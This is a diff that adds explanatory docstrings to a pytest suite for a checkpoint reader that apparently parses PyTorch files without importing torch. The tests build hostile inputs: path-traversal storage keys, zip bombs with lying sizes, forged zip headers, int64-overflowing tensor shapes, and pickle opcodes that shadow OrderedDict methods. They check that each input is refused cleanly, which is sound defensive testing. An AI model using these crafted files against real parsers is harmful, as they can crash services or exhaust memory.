+    # Stops: a shape whose numel wraps negative in int64. Found: hostile review of the unpickler, session 1.
     pytest.param({"shape": (3, 2**62), "stride": (0, 0)}, id="numel wraps negative"),
+    # Stops: an empty view whose other dims overflow int64. Found: hostile review of the unpickler, session 1.
     pytest.param({"shape": (0, 2**62, 2**62), "stride": (1, 1, 1)},
         id="empty view with overflowing dims"),
+    # Stops: a single dimension of 2**70. Found: hostile review of the unpickler, session 1.
     pytest.param({"shape": (2**70,), "stride": (0,)}, id="dim 2**70"),
+    # Stops: a zero-stride view that materialises 4 TiB. Found: hostile review of the unpickler, session 1.
     pytest.param({"shape": (2**20, 2**20), "stride": (0, 0)},
         id="zero-stride broadcast to 4 TiB"),
 ]
@@ -1202,6 +1311,7 @@ READ_ERRORS: list[Any] = [
 @pytest.mark.parametrize("kwargs", READ_ERRORS)
 def test_out_of_range_view_fails_at_read_with_ckpt_error(tmp_path: Path, zip_template: bytes,
                                                          kwargs: dict[str, Any]) -> None:
+    """Stops: tensor views reaching outside their storage or overflowing int64. Found: designed up front; overflows: hostile review, session 1."""
     kwargs = dict(kwargs)  # parameters are shared between runs: never mutate them
     numel = kwargs.pop("numel", 16)
     tensor = op_tensor(op_storage_pid(numel=numel), **kwargs)
@@ -1213,10 +1323,11 @@ def test_out_of_range_view_fails_at_read_with_ckpt_error(tmp_path: Path, zip_tem
 
 @pytest.mark.parametrize(("shape", "stride", "offset"), [
     ((16,), (1,), 0), ((4, 4), (1, 4), 0), ((2, 3), (0, 1), 5), ((0,), (1,), 16), ((), (), 15),
-])
+], ids=["contiguous", "transposed", "zero-stride rows", "empty at the end", "scalar"])
 def test_legal_views_read_exactly_their_elements(tmp_path: Path, zip_template: bytes,
                                                  shape: tuple[int, ...],
                                                  stride: tuple[int, ...], offset: int) -> None:
+    """Stops: bounds checks so tight they refuse legal views (transposed, broadcast, empty, scalar) (control). Found: designed up front."""
     tensor = op_tensor(offset=offset, shape=shape, stride=stride)
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl(tensor=tensor)))
     values = read_tensor(open_torch(path))
@@ -1254,6 +1365,7 @@ PIDS: list[Any] = [
 
 @pytest.mark.parametrize("pid", PIDS)
 def test_weird_persistent_id_is_corrupt(tmp_path: Path, zip_template: bytes, pid: bytes) -> None:
+    """Stops: malformed or path-like persistent ids (../, absolute, NUL, missing record) reaching a storage. Found: designed up front."""
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl(tensor=op_tensor(pid))))
     with pytest.raises(CorruptCheckpointError):
         open_and_read(path)
@@ -1261,7 +1373,10 @@ def test_weird_persistent_id_is_corrupt(tmp_path: Path, zip_template: bytes, pid
 
 def test_backslash_key_only_names_a_member_inside_the_archive(tmp_path: Path,
                                                               zip_template: bytes) -> None:
-    """Keys are zip member names, never file system paths: ``..\\`` reads the member."""
+    """Stops: a storage key with '..' and backslashes being resolved as a file path (traversal). Found: designed up front.
+
+    Keys are zip member names, never file system paths: ``..\\`` reads the member.
+    """
     tensor = op_tensor(op_storage_pid(key="..\\x"))
     data = rewrite_zip(zip_template, state_dict_pkl(tensor=tensor),
                        add={"data/..\\x": struct.pack("<16f", *range(16))})
@@ -1304,60 +1419,80 @@ def _encrypted(data: bytes, name: str) -> bytes:
 
 
 ZIPS: list[Any] = [
+    # Stops: a deflated storage member (storages must be STORED to be mapped). Found: designed up front.
     pytest.param(lambda: build_zip(_with(_stored_entries(), "archive/data/0",
                                          method=zipfile.ZIP_DEFLATED)),
                  UnsupportedCheckpointError, id="deflated storage"),
+    # Stops: a bzip2-compressed storage member. Found: designed up front.
     pytest.param(lambda: build_zip(_with(_stored_entries(), "archive/data/0",
                                          method=zipfile.ZIP_BZIP2)),
                  UnsupportedCheckpointError, id="bzip2 storage"),
+    # Stops: a data.pkl whose directory entry claims 2 GiB. Found: designed up front.
     pytest.param(lambda: patch_zip_entry(build_zip(_stored_entries()), "archive/data.pkl",
                                          central={"size": 2**31}),
                  CorruptCheckpointError, id="data.pkl claims 2 GiB"),
+    # Stops: an 8 MiB deflate bomb behind a lying size. Found: designed up front.
     pytest.param(lambda: patch_zip_entry(build_zip(_with(
         _stored_entries(), "archive/data.pkl", state_dict_pkl() + b"\0" * (8 * MIB),
         zipfile.ZIP_DEFLATED)), "archive/data.pkl", central={"size": len(state_dict_pkl())}),
                  CorruptCheckpointError, id="deflate bomb with a lying size"),
+    # Stops: a data.pkl failing its crc. Found: designed up front.
     pytest.param(lambda: patch_zip_entry(build_zip(_stored_entries()), "archive/data.pkl",
                                          central={"crc": 0}),
                  CorruptCheckpointError, id="data.pkl bad crc"),
+    # Stops: a storage header offset past the end of file. Found: designed up front.
     pytest.param(lambda: patch_zip_entry(build_zip(_stored_entries()), "archive/data/0",
                                          central={"header_offset": 2**31}),
                  CorruptCheckpointError, id="storage header offset past EOF"),
+    # Stops: a storage local-header name length past EOF. Found: designed up front.
     pytest.param(lambda: patch_zip_entry(build_zip(_stored_entries()), "archive/data/0",
                                          local={"name_len": 60000}),
                  CorruptCheckpointError, id="storage local name length past EOF"),
+    # Stops: a storage member with a broken local-header magic. Found: designed up front.
     pytest.param(lambda: _break_local_magic(build_zip(_stored_entries()), "archive/data/0"),
                  CorruptCheckpointError, id="storage bad local magic"),
+    # Stops: a TorchScript archive (code/ member) read as a checkpoint. Found: designed up front.
     pytest.param(lambda: build_zip([*_stored_entries(), ("archive/code/__torch__.py",
                                                          b"import os", zipfile.ZIP_STORED)]),
                  UnsupportedCheckpointError, id="TorchScript code/"),
+    # Stops: a TorchScript constants.pkl beside data.pkl. Found: designed up front.
     pytest.param(lambda: build_zip([*_stored_entries(), ("archive/constants.pkl",
                                                          state_dict_pkl(), zipfile.ZIP_STORED)]),
                  UnsupportedCheckpointError, id="TorchScript constants.pkl"),
+    # Stops: two data.pkl members (which one is scanned?). Found: designed up front.
     pytest.param(lambda: build_zip([*_stored_entries(), ("other/data.pkl", state_dict_pkl(),
                                                          zipfile.ZIP_STORED)]),
                  UnsupportedCheckpointError, id="two data.pkl"),
+    # Stops: a zip with no data.pkl. Found: designed up front.
     pytest.param(lambda: build_zip(_stored_entries()[1:]), UnsupportedCheckpointError,
                  id="no data.pkl"),
+    # Stops: a truncated central directory. Found: designed up front.
     pytest.param(lambda: build_zip(_stored_entries())[:-30], CorruptCheckpointError,
                  id="truncated central directory"),
+    # Stops: a storage member shorter than its numel. Found: designed up front.
     pytest.param(lambda: build_zip(_with(_stored_entries(), "archive/data/0",
                                          struct.pack("<5f", *range(5)))),
                  CorruptCheckpointError, id="storage shorter than numel"),
+    # Stops: a referenced storage member that is absent. Found: designed up front.
     pytest.param(lambda: build_zip([e for e in _stored_entries() if e[0] != "archive/data/0"]),
                  CorruptCheckpointError, id="storage missing"),
+    # Stops: a data.pkl with an unknown compression method escaping as NotImplementedError. Found: hostile review of the unpickler, session 1.
     pytest.param(lambda: _method(build_zip(_stored_entries()), "archive/data.pkl", 99),
                  CkptError,
                  id="data.pkl unknown compression"),
+    # Stops: a data.pkl flagged encrypted escaping as RuntimeError. Found: hostile review of the unpickler, session 1.
     pytest.param(lambda: _encrypted(build_zip(_stored_entries()), "archive/data.pkl"),
                  CkptError,
                  id="data.pkl encrypted"),
+    # Stops: a byteorder member with an unknown compression method. Found: hostile review of the unpickler, session 1.
     pytest.param(lambda: _method(build_zip(_stored_entries()), "archive/byteorder", 99),
                  CkptError,
                  id="byteorder unknown compression"),
+    # Stops: a byteorder member flagged encrypted. Found: hostile review of the unpickler, session 1.
     pytest.param(lambda: _encrypted(build_zip(_stored_entries()), "archive/byteorder"),
                  CkptError,
                  id="byteorder encrypted"),
+    # Stops: a storage member flagged encrypted. Found: hostile review of the unpickler, session 1.
     pytest.param(lambda: _encrypted(build_zip(_stored_entries()), "archive/data/0"),
                  UnsupportedCheckpointError, id="storage encrypted"),
 ]
@@ -1366,20 +1501,27 @@ ZIPS: list[Any] = [
 @pytest.mark.parametrize(("build", "error"), ZIPS)
 def test_hostile_zip_container(tmp_path: Path, build: Callable[[], bytes],
                                error: type[CkptError]) -> None:
+    """Stops: hostile torch zips (bombs, forged headers, TorchScript). Found: designed up front; encrypted/unknown-method: hostile review, session 1."""
     path = write(tmp_path, build())
     with pytest.raises(error):
         open_and_read(path)
 
 
 def test_deflated_data_pkl_is_still_read(tmp_path: Path) -> None:
-    """Control: only storages must be STORED; a compressed data.pkl is legitimate zip."""
+    """Stops: a false refusal of a legitimate zip whose data.pkl is deflated (control). Found: designed up front.
+
+    Control: only storages must be STORED; a compressed data.pkl is legitimate zip.
+    """
     path = write(tmp_path, build_zip(_with(_stored_entries(), "archive/data.pkl",
                                            method=zipfile.ZIP_DEFLATED)))
     assert open_and_read(path)["w"].tolist() == list(range(16))
 
 
 def test_torch_written_zip_round_trips(tmp_path: Path, zip_template: bytes) -> None:
-    """Control: the unmodified template and a rewritten-but-equivalent data.pkl both read."""
+    """Stops: a false refusal of a real torch.save zip or an equivalent rewrite of it (control). Found: designed up front.
+
+    Control: the unmodified template and a rewritten-but-equivalent data.pkl both read.
+    """
     assert open_and_read(write(tmp_path, zip_template, "a.pt"))["w"].tolist() == list(range(16))
     path = write(tmp_path, rewrite_zip(zip_template, state_dict_pkl()), "b.pt")
     assert open_and_read(path)["w"].tolist() == list(range(16))
@@ -1387,6 +1529,7 @@ def test_torch_written_zip_round_trips(tmp_path: Path, zip_template: bytes) -> N
 
 
 def test_byteorder_member_is_size_limited(tmp_path: Path, zip_template: bytes) -> None:
+    """Stops: a 64 MiB byteorder member deflated into a small file inflating in memory (zip bomb). Found: hostile review of the unpickler, session 1."""
     data = rewrite_zip(zip_template, replace={"byteorder": b" " * (64 * MIB)},
                        compress={"byteorder": zipfile.ZIP_DEFLATED})
     path = write(tmp_path, data)
@@ -1409,6 +1552,7 @@ def test_byteorder_member_is_size_limited(tmp_path: Path, zip_template: bytes) -
 
 
 def test_torch_written_legacy_stream_round_trips(tmp_path: Path, legacy_template: bytes) -> None:
+    """Stops: a false refusal of a real (or equivalently crafted) legacy torch.save stream (control). Found: designed up front."""
     assert open_and_read(write(tmp_path, legacy_template))["w"].tolist() == [0, 1, 2, 3]
     crafted = write(tmp_path, legacy_stream(legacy_template), "crafted.pt")
     assert open_and_read(crafted)["w"].tolist() == [0, 1, 2, 3]
@@ -1456,12 +1600,14 @@ LEGACY: list[Any] = [
 @pytest.mark.parametrize(("parts", "error"), LEGACY)
 def test_hostile_legacy_stream(tmp_path: Path, legacy_template: bytes, parts: dict[str, bytes],
                                error: type[CkptError]) -> None:
+    """Stops: hostile legacy streams (lying size prefixes, missing records, bad key lists, huge numel). Found: designed up front."""
     path = write(tmp_path, legacy_stream(legacy_template, **parts))
     with pytest.raises(error):
         open_and_read(path)
 
 
 def test_legacy_bad_magic_is_not_a_torch_file(tmp_path: Path, legacy_template: bytes) -> None:
+    """Stops: a stream with a wrong legacy magic number being read as a torch file. Found: designed up front."""
     magic = pkl(op_int(0x1950A86A20F9469CFC6B))
     path = write(tmp_path, legacy_stream(legacy_template, magic=magic))
     with pytest.raises(UnsupportedCheckpointError):
@@ -1470,6 +1616,7 @@ def test_legacy_bad_magic_is_not_a_torch_file(tmp_path: Path, legacy_template: b
 
 def test_legacy_duplicate_key_reads_consecutive_records(tmp_path: Path,
                                                         legacy_template: bytes) -> None:
+    """Stops: a storage key listed twice desynchronising the legacy record reader. Found: designed up front."""
     keys = pkl(op_list(op_str("k"), op_str("k")))
     path = write(tmp_path, legacy_stream(legacy_template, keys=keys,
                                          tail=LEGACY_RECORD + LEGACY_RECORD))
@@ -1502,23 +1649,32 @@ ORDERED = op_call(op_global("collections", "OrderedDict"))
 HUGE_INT = pickle.LONG4 + struct.pack("<i", 2000) + b"\1" * 2000
 
 CONVERT: list[Any] = [
+    # Stops: a 4800-digit epoch crashing metadata (int to float overflow). Found: hostile review of the unpickler, session 1.
     pytest.param(_ckpt(("epoch", HUGE_INT)),
         id="epoch of 4800 digits"),
+    # Stops: a 4800-digit metric crashing metadata. Found: hostile review of the unpickler, session 1.
     pytest.param(_ckpt(("best_val", HUGE_INT)), id="metric of 4800 digits"),
+    # Stops: a 4800-digit hparams key (int-to-str digit limit). Found: hostile review of the unpickler, session 1.
     pytest.param(_ckpt(("hyper_parameters", op_dict((HUGE_INT, op_int(1))))),
         id="hparams key of 4800 digits"),
+    # Stops: a slice over 5000 nested lists (RecursionError in repr). Found: hostile review of the unpickler, session 1.
     pytest.param(_ckpt(("hyper_parameters", op_dict((op_str("x"), op_call(
         op_global("builtins", "slice"), pickle.EMPTY_LIST * 5001
         + pickle.APPEND * 5000))))),
         id="slice of a deep list"),
+    # Stops: a checkpoint OrderedDict whose BUILD shadows .get. Found: hostile review of the unpickler, session 1.
     pytest.param(_ckpt(top=ORDERED, state=op_build(op_dict((op_str("get"), op_int(1))))), id="OrderedDict.get shadowed"),
+    # Stops: deeply nested lists in hparams. Found: designed up front.
     pytest.param(_ckpt(("hyper_parameters", op_dict(*[
         (op_str(f"k{i}"), pickle.EMPTY_LIST * 40 + pickle.APPEND * 39) for i in range(3)]))),
         id="nested lists in hparams"),
+    # Stops: a complex number in hparams. Found: designed up front.
     pytest.param(_ckpt(("hyper_parameters", op_dict((op_str("c"), op_call(
         op_global("builtins", "complex"), op_int(1), op_int(2)))))), id="complex value"),
+    # Stops: a NaN dict key in hparams. Found: designed up front.
     pytest.param(_ckpt(("hyper_parameters", op_dict((pickle.BINFLOAT + struct.pack(
         ">d", float("nan")), op_int(1))))), id="NaN key"),
+    # Stops: a callback state key built to blow up literal_eval. Found: designed up front.
     pytest.param(_ckpt(("callbacks", op_dict((op_str("ModelCheckpoint{" + "[" * 3000), op_dict(
         (op_str("best_model_score"), op_int(1))))))), id="callback name literal_eval bomb"),
 ]
@@ -1528,6 +1684,7 @@ CONVERT: list[Any] = [
 def test_convert_reports_hostile_metadata_without_internal_error(tmp_path: Path,
                                                                  zip_template: bytes,
                                                                  data: bytes) -> None:
+    """Stops: hostile metadata values (huge ints, deep nesting, shadowed methods) crashing convert. Found: hostile review of the unpickler, session 1."""
     item = _convert(tmp_path, zip_template, data)
     assert item.status in {"converted", "failed"}
     assert "internal error" not in (item.reason or ""), item.reason
@@ -1536,6 +1693,7 @@ def test_convert_reports_hostile_metadata_without_internal_error(tmp_path: Path,
 
 def test_poisoned_state_dict_items_cannot_hide_tensors(tmp_path: Path,
                                                       zip_template: bytes) -> None:
+    """Stops: a state_dict OrderedDict whose BUILD shadows .items() hiding its tensors from convert. Found: hostile review of the unpickler, session 1."""
     from ckptctl.layouts.ckptctl_tensors import read_tensors
 
     state_dict = (ORDERED + op_str("w") + op_tensor() + pickle.SETITEM
@@ -1550,7 +1708,10 @@ def test_poisoned_state_dict_items_cannot_hide_tensors(tmp_path: Path,
 
 def test_ordered_dict_metadata_attribute_is_still_accepted(tmp_path: Path,
                                                            zip_template: bytes) -> None:
-    """Control: torch's state_dict OrderedDict legitimately BUILDs ``{'_metadata': ...}``."""
+    """Stops: a false refusal of torch's own state_dict ``_metadata`` BUILD (control). Found: designed up front.
+
+    Control: torch's state_dict OrderedDict legitimately BUILDs ``{'_metadata': ...}``.
+    """
     state_dict = (ORDERED + op_str("w") + op_tensor() + pickle.SETITEM
                   + op_build(op_dict((op_str("_metadata"), op_dict()))))
     item = _convert(tmp_path, zip_template, pkl(op_dict((op_str("state_dict"), state_dict))))
@@ -1562,6 +1723,7 @@ def test_ordered_dict_metadata_attribute_is_still_accepted(tmp_path: Path,
 
 def test_readers_never_import_torch(tmp_path: Path, zip_template: bytes,
                                     legacy_template: bytes) -> None:
+    """Stops: reading, converting or refusing a checkpoint importing torch (and its import side effects). Found: designed up front."""
     (tmp_path / "z").mkdir()
     zip_path = write(tmp_path / "z", zip_template)
     legacy_path = write(tmp_path, legacy_template, "legacy.pt")
@@ -1627,8 +1789,12 @@ report(escaped=escaped)
 """
 
 
+@pytest.mark.slow
 def test_fuzzed_data_pkl_only_raises_ckpt_errors(tmp_path: Path, zip_template: bytes) -> None:
-    """Random byte flips/insertions/deletions of a real data.pkl (fixed seed, in a child)."""
+    """Stops: mutated data.pkl bytes escaping as non-CkptError exceptions. Found: designed up front (seeded mutation loop).
+
+    Random byte flips/insertions/deletions of a real data.pkl (fixed seed, in a child).
+    """
     template = write(tmp_path, zip_template, "template.pt")
     rc, result = run_child(tmp_path, FUZZ, template, tmp_path / "fuzzed.pt", 200)
     assert rc == 0, result
